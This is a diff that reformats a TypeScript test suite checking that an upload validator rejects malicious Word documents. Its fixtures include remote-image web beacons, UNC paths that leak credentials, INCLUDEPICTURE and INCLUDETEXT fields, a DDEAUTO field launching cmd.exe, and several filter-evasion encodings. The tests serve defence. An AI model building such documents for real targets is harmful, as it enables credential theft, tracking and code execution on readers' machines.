@@ -42,7 +42,9 @@ function wordXml(body: string, root = "w:document", inner = "w:body"): string {
 }
 
 function rels(body: string): Buffer {
-  return Buffer.from(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${body}</Relationships>`);
+  return Buffer.from(
+    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${body}</Relationships>`,
+  );
 }
 
 function relationship(type: string, target: string, external = true, ns = REL_NS, id = "rId9"): string {
@@ -54,7 +56,28 @@ const para = (text: string) => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t
 /** Paragraphs of varied course text, about `bytes` long: it compresses like prose, so the archive's ratio guard lets it through. */
 let seed = 7;
 function prose(bytes: number): string {
-  const words = ["alert", "triage", "SIEM", "log", "query", "endpoint", "phishing", "malware", "incident", "playbook", "network", "packet", "hash", "IOC", "threat", "hunting", "Splunk", "Sentinel", "escalation", "analyst"];
+  const words = [
+    "alert",
+    "triage",
+    "SIEM",
+    "log",
+    "query",
+    "endpoint",
+    "phishing",
+    "malware",
+    "incident",
+    "playbook",
+    "network",
+    "packet",
+    "hash",
+    "IOC",
+    "threat",
+    "hunting",
+    "Splunk",
+    "Sentinel",
+    "escalation",
+    "analyst",
+  ];
   const out: string[] = [];
   let size = 0;
   while (size < bytes) {
@@ -121,22 +144,56 @@ async function expectAcceptedEverywhere(file: Buffer) {
 
 describe("relationships to another machine or a file", () => {
   const refused: [string, () => Buffer][] = [
-    ["a linked picture fetched over HTTP (a web beacon)", () => wordFile(para("Week 1"), { documentRels: relationship("image", "https://203.0.113.9/pixel.png") })],
-    ["a linked picture on a UNC path (hands over the reader's Windows credentials)", () => wordFile(para("Week 1"), { documentRels: relationship("image", "\\\\203.0.113.9\\share\\logo.png") })],
-    ["a linked picture under the strict (ISO) namespace", () => wordFile(para("Week 1"), { documentRels: relationship("image", "https://203.0.113.9/p.png", true, STRICT_REL_NS) })],
-    ["an external link to a workbook (externalLinkPath)", () => wordFile(para("x"), { documentRels: relationship("externalLinkPath", "https://203.0.113.9/book.xlsx") })],
+    [
+      "a linked picture fetched over HTTP (a web beacon)",
+      () => wordFile(para("Week 1"), { documentRels: relationship("image", "https://203.0.113.9/pixel.png") }),
+    ],
+    [
+      "a linked picture on a UNC path (hands over the reader's Windows credentials)",
+      () => wordFile(para("Week 1"), { documentRels: relationship("image", "\\\\203.0.113.9\\share\\logo.png") }),
+    ],
+    [
+      "a linked picture under the strict (ISO) namespace",
+      () => wordFile(para("Week 1"), { documentRels: relationship("image", "https://203.0.113.9/p.png", true, STRICT_REL_NS) }),
+    ],
+    [
+      "an external link to a workbook (externalLinkPath)",
+      () => wordFile(para("x"), { documentRels: relationship("externalLinkPath", "https://203.0.113.9/book.xlsx") }),
+    ],
     [
       "a mail-merge data source on another host (settings.xml.rels)",
-      () => wordFile(para("x"), { parts: [{ name: "word/_rels/settings.xml.rels", data: rels(relationship("mailMergeSource", "file://203.0.113.9/share/data.mdb")) }] }),
+      () =>
+        wordFile(para("x"), {
+          parts: [{ name: "word/_rels/settings.xml.rels", data: rels(relationship("mailMergeSource", "file://203.0.113.9/share/data.mdb")) }],
+        }),
     ],
-    ["a remote template on a //host/share path", () => wordFile(para("x"), { parts: [{ name: "word/_rels/settings.xml.rels", data: rels(relationship("attachedTemplate", "//203.0.113.9/share/t.dotm")) }] })],
-    ["a hyperlink to a program on the reader's disk (file:)", () => wordFile(para("x"), { documentRels: relationship("hyperlink", "file:///C:/Windows/System32/calc.exe") })],
+    [
+      "a remote template on a //host/share path",
+      () =>
+        wordFile(para("x"), { parts: [{ name: "word/_rels/settings.xml.rels", data: rels(relationship("attachedTemplate", "//203.0.113.9/share/t.dotm")) }] }),
+    ],
+    [
+      "a hyperlink to a program on the reader's disk (file:)",
+      () => wordFile(para("x"), { documentRels: relationship("hyperlink", "file:///C:/Windows/System32/calc.exe") }),
+    ],
     ["a hyperlink in upper case FILE: scheme", () => wordFile(para("x"), { documentRels: relationship("hyperlink", "FILE:///C:/Windows/System32/calc.exe") })],
-    ["a hyperlink to a UNC share (\\\\host\\share)", () => wordFile(para("x"), { documentRels: relationship("hyperlink", "\\\\203.0.113.9\\share\\notes.docx") })],
+    [
+      "a hyperlink to a UNC share (\\\\host\\share)",
+      () => wordFile(para("x"), { documentRels: relationship("hyperlink", "\\\\203.0.113.9\\share\\notes.docx") }),
+    ],
     ["a hyperlink to a //host/share path", () => wordFile(para("x"), { documentRels: relationship("hyperlink", "//203.0.113.9/share/notes.docx") })],
-    ["a hyperlink to a UNC share spelled with character references", () => wordFile(para("x"), { documentRels: relationship("hyperlink", "&#92;&#x5c;203.0.113.9\\share\\n.docx") })],
-    ["an internal relationship whose target is a file: URL", () => wordFile(para("x"), { documentRels: relationship("image", "file://203.0.113.9/share/p.png", false) })],
-    ["a hyperlink relationship in a header's part", () => wordFile(para("x"), { parts: [{ name: "word/_rels/header1.xml.rels", data: rels(relationship("hyperlink", "\\\\evil\\s\\x")) }] })],
+    [
+      "a hyperlink to a UNC share spelled with character references",
+      () => wordFile(para("x"), { documentRels: relationship("hyperlink", "&#92;&#x5c;203.0.113.9\\share\\n.docx") }),
+    ],
+    [
+      "an internal relationship whose target is a file: URL",
+      () => wordFile(para("x"), { documentRels: relationship("image", "file://203.0.113.9/share/p.png", false) }),
+    ],
+    [
+      "a hyperlink relationship in a header's part",
+      () => wordFile(para("x"), { parts: [{ name: "word/_rels/header1.xml.rels", data: rels(relationship("hyperlink", "\\\\evil\\s\\x")) }] }),
+    ],
   ];
   for (const [label, make] of refused) {
     it(`refuses ${label}, as a syllabus and as an attachment`, async () => {
@@ -149,26 +206,109 @@ describe("fields that pull in another file or run a program", () => {
   const refused: [string, () => Buffer][] = [
     ["an INCLUDEPICTURE field", () => wordFile(`<w:p>${field([' INCLUDEPICTURE "https://203.0.113.9/p.png" \\d '])}</w:p>`)],
     ["an INCLUDEPICTURE field on a UNC path", () => wordFile(`<w:p>${field([' INCLUDEPICTURE "\\\\\\\\203.0.113.9\\\\share\\\\p.png" '])}</w:p>`)],
-    ["an INCLUDEPICTURE field split over several runs, in lower case", () => wordFile(`<w:p>${field([" incl", "udePic", 'ture "https://203.0.113.9/p.png"'])}</w:p>`)],
+    [
+      "an INCLUDEPICTURE field split over several runs, in lower case",
+      () => wordFile(`<w:p>${field([" incl", "udePic", 'ture "https://203.0.113.9/p.png"'])}</w:p>`),
+    ],
     ["an INCLUDETEXT field", () => wordFile(`<w:p>${field([' INCLUDETEXT "C:\\\\Users\\\\Public\\\\x.docx" '])}</w:p>`)],
-    ["an INCLUDETEXT in a simple field in a header", () => wordFile(para("x"), { parts: [{ name: "word/header1.xml", data: wordXml('<w:fldSimple w:instr=" INCLUDETEXT &quot;https://203.0.113.9/t.docx&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple>', "w:hdr", "w:p") }] })],
-    ["an INCLUDEPICTURE in the footnotes", () => wordFile(para("x"), { parts: [{ name: "word/footnotes.xml", data: wordXml(`<w:footnote w:id="1"><w:p>${field([" INCLUDEPICTURE http://203.0.113.9/p.png "])}</w:p></w:footnote>`, "w:footnotes", "w:body") }] })],
+    [
+      "an INCLUDETEXT in a simple field in a header",
+      () =>
+        wordFile(para("x"), {
+          parts: [
+            {
+              name: "word/header1.xml",
+              data: wordXml(
+                '<w:fldSimple w:instr=" INCLUDETEXT &quot;https://203.0.113.9/t.docx&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple>',
+                "w:hdr",
+                "w:p",
+              ),
+            },
+          ],
+        }),
+    ],
+    [
+      "an INCLUDEPICTURE in the footnotes",
+      () =>
+        wordFile(para("x"), {
+          parts: [
+            {
+              name: "word/footnotes.xml",
+              data: wordXml(`<w:footnote w:id="1"><w:p>${field([" INCLUDEPICTURE http://203.0.113.9/p.png "])}</w:p></w:footnote>`, "w:footnotes", "w:body"),
+            },
+          ],
+        }),
+    ],
     ["an INCLUDETEXT hidden behind character references", () => wordFile(`<w:p>${field([" INCLUDE&#84;E&#x58;T http://203.0.113.9/t.docx "])}</w:p>`)],
-    ["an INCLUDEPICTURE split by an XML comment and a CDATA section", () => wordFile(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE<!-- x --><![CDATA[PIC]]>TURE http://203.0.113.9/p.png</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`)],
-    ["an INCLUDEPICTURE under another namespace prefix", () => wordFile("", { document: Buffer.from(`<?xml version="1.0"?><x:document xmlns:x="${W}"><x:body><x:p><x:r><x:instrText>INCLUDEPICTURE http://203.0.113.9/p.png</x:instrText></x:r></x:p></x:body></x:document>`) })],
-    ["an INCLUDEPICTURE in a UTF-16 document", () => wordFile("", { document: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(wordXml(`<w:p>${field([" INCLUDEPICTURE http://203.0.113.9/p.png "])}</w:p>`).replace('encoding="UTF-8"', 'encoding="UTF-16"'), "utf16le")]) })],
-    ["an INCLUDEPICTURE deep in a document over 3 MB (past any one chunk)", () => wordFile(prose(3_500_000) + `<w:p>${field([" INCLUDEPIC", "TURE http://203.0.113.9/p.png "])}</w:p>`)],
-    ["an INCLUDEPICTURE in a main document kept under another name", () =>
-      zip([
-        { name: "[Content_Types].xml", data: CONTENT_TYPES },
-        { name: "_rels/.rels", data: rels(`<Relationship Id="rId1" Type="${REL_NS}/officeDocument" Target="word/main.dat"/>`) },
-        { name: "word/document.xml", data: Buffer.from(wordXml(para("decoy"))) },
-        { name: "word/main.dat", data: Buffer.from(wordXml(`<w:p>${field([" INCLUDEPICTURE http://203.0.113.9/p.png "])}</w:p>`)) },
-      ])],
-    ["a field whose name is made by a nested QUOTE field", () => wordFile(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${field([' QUOTE 73 78 67 76 85 68 69 80 73 67 84 85 82 69 '])}<w:r><w:instrText> "http://203.0.113.9/p.png"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`)],
+    [
+      "an INCLUDEPICTURE split by an XML comment and a CDATA section",
+      () =>
+        wordFile(
+          `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE<!-- x --><![CDATA[PIC]]>TURE http://203.0.113.9/p.png</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
+        ),
+    ],
+    [
+      "an INCLUDEPICTURE under another namespace prefix",
+      () =>
+        wordFile("", {
+          document: Buffer.from(
+            `<?xml version="1.0"?><x:document xmlns:x="${W}"><x:body><x:p><x:r><x:instrText>INCLUDEPICTURE http://203.0.113.9/p.png</x:instrText></x:r></x:p></x:body></x:document>`,
+          ),
+        }),
+    ],
+    [
+      "an INCLUDEPICTURE in a UTF-16 document",
+      () =>
+        wordFile("", {
+          document: Buffer.concat([
+            Buffer.from([0xff, 0xfe]),
+            Buffer.from(
+              wordXml(`<w:p>${field([" INCLUDEPICTURE http://203.0.113.9/p.png "])}</w:p>`).replace('encoding="UTF-8"', 'encoding="UTF-16"'),
+              "utf16le",
+            ),
+          ]),
+        }),
+    ],
+    [
+      "an INCLUDEPICTURE deep in a document over 3 MB (past any one chunk)",
+      () => wordFile(prose(3_500_000) + `<w:p>${field([" INCLUDEPIC", "TURE http://203.0.113.9/p.png "])}</w:p>`),
+    ],
+    [
+      "an INCLUDEPICTURE in a main document kept under another name",
+      () =>
+        zip([
+          { name: "[Content_Types].xml", data: CONTENT_TYPES },
+          { name: "_rels/.rels", data: rels(`<Relationship Id="rId1" Type="${REL_NS}/officeDocument" Target="word/main.dat"/>`) },
+          { name: "word/document.xml", data: Buffer.from(wordXml(para("decoy"))) },
+          { name: "word/main.dat", data: Buffer.from(wordXml(`<w:p>${field([" INCLUDEPICTURE http://203.0.113.9/p.png "])}</w:p>`)) },
+        ]),
+    ],
+    [
+      "a field whose name is made by a nested QUOTE field",
+      () =>
+        wordFile(
+          `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${field([" QUOTE 73 78 67 76 85 68 69 80 73 67 84 85 82 69 "])}<w:r><w:instrText> "http://203.0.113.9/p.png"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
+        ),
+    ],
     ["a DDEAUTO field (runs a program)", () => wordFile(`<w:p>${field([' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '])}</w:p>`)],
-    ["a part with a DOCTYPE (an entity could spell the field)", () => wordFile("", { document: Buffer.from(`<?xml version="1.0"?><!DOCTYPE d [<!ENTITY f "INCLUDEPICTURE">]><w:document xmlns:w="${W}"><w:body><w:p><w:r><w:instrText>&f; http://203.0.113.9/p.png</w:instrText></w:r></w:p></w:body></w:document>`) })],
-    ["a part declared in an encoding the checks cannot read (UTF-7)", () => wordFile("", { document: Buffer.from(`<?xml version="1.0" encoding="UTF-7"?><w:document xmlns:w="${W}"><w:body><w:p><w:r><w:instrText>+AEkATgBDAEwAVQBEAEUAUABJAEMAVABVAFIARQ- http://203.0.113.9/p.png</w:instrText></w:r></w:p></w:body></w:document>`) })],
+    [
+      "a part with a DOCTYPE (an entity could spell the field)",
+      () =>
+        wordFile("", {
+          document: Buffer.from(
+            `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY f "INCLUDEPICTURE">]><w:document xmlns:w="${W}"><w:body><w:p><w:r><w:instrText>&f; http://203.0.113.9/p.png</w:instrText></w:r></w:p></w:body></w:document>`,
+          ),
+        }),
+    ],
+    [
+      "a part declared in an encoding the checks cannot read (UTF-7)",
+      () =>
+        wordFile("", {
+          document: Buffer.from(
+            `<?xml version="1.0" encoding="UTF-7"?><w:document xmlns:w="${W}"><w:body><w:p><w:r><w:instrText>+AEkATgBDAEwAVQBEAEUAUABJAEMAVABVAFIARQ- http://203.0.113.9/p.png</w:instrText></w:r></w:p></w:body></w:document>`,
+          ),
+        }),
+    ],
   ];
   for (const [label, make] of refused) {
     it(`refuses ${label}, as a syllabus and as an attachment`, async () => {
@@ -182,17 +322,24 @@ describe("altChunk: another file imported into the document", () => {
     await expectRefusedEverywhere(
       wordFile(`${para("Week 1")}<w:altChunk r:id="rId5"/>`, {
         documentRels: relationship("aFChunk", "afchunk.mht", false, REL_NS, "rId5"),
-        parts: [{ name: "word/afchunk.mht", data: "MIME-Version: 1.0\r\n\r\n<html><img src=\"file://203.0.113.9/x.png\"></html>" }],
+        parts: [{ name: "word/afchunk.mht", data: 'MIME-Version: 1.0\r\n\r\n<html><img src="file://203.0.113.9/x.png"></html>' }],
       }),
     );
   });
 
   it("refuses an aFChunk relationship on its own", async () => {
-    await expectRefusedEverywhere(wordFile(para("Week 1"), { documentRels: relationship("aFChunk", "afchunk.htm", false), parts: [{ name: "word/afchunk.htm", data: "<html><p>x</p></html>" }] }));
+    await expectRefusedEverywhere(
+      wordFile(para("Week 1"), {
+        documentRels: relationship("aFChunk", "afchunk.htm", false),
+        parts: [{ name: "word/afchunk.htm", data: "<html><p>x</p></html>" }],
+      }),
+    );
   });
 
   it("refuses an altChunk in a header, whatever its prefix", async () => {
-    await expectRefusedEverywhere(wordFile(para("x"), { parts: [{ name: "word/header2.xml", data: `<?xml version="1.0"?><hdr xmlns="${W}"><altChunk/></hdr>` }] }));
+    await expectRefusedEverywhere(
+      wordFile(para("x"), { parts: [{ name: "word/header2.xml", data: `<?xml version="1.0"?><hdr xmlns="${W}"><altChunk/></hdr>` }] }),
+    );
   });
 });
 
@@ -244,7 +391,10 @@ describe("the part scanner, fed in chunks of any size", () => {
     ["a field split by a comment and CDATA", Buffer.from(wordXml("<w:p><w:r><w:instrText>INCLUDE<!-- - -><![CDATA[PICT]]>URE x</w:instrText></w:r></w:p>"))],
     ["an altChunk", Buffer.from(wordXml('<w:altChunk r:id="rId5"/>'))],
     ["a DOCTYPE", Buffer.from(`<?xml version="1.0"?><!DOCTYPE d><w:document xmlns:w="${W}"/>`)],
-    ["a UTF-16 field", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(wordXml(`<w:p>${field([" INCLUDEPICTURE x "])}</w:p>`).replace("UTF-8", "UTF-16"), "utf16le")])],
+    [
+      "a UTF-16 field",
+      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(wordXml(`<w:p>${field([" INCLUDEPICTURE x "])}</w:p>`).replace("UTF-8", "UTF-16"), "utf16le")]),
+    ],
   ];
   const ordinary = Buffer.from(
     wordXml(
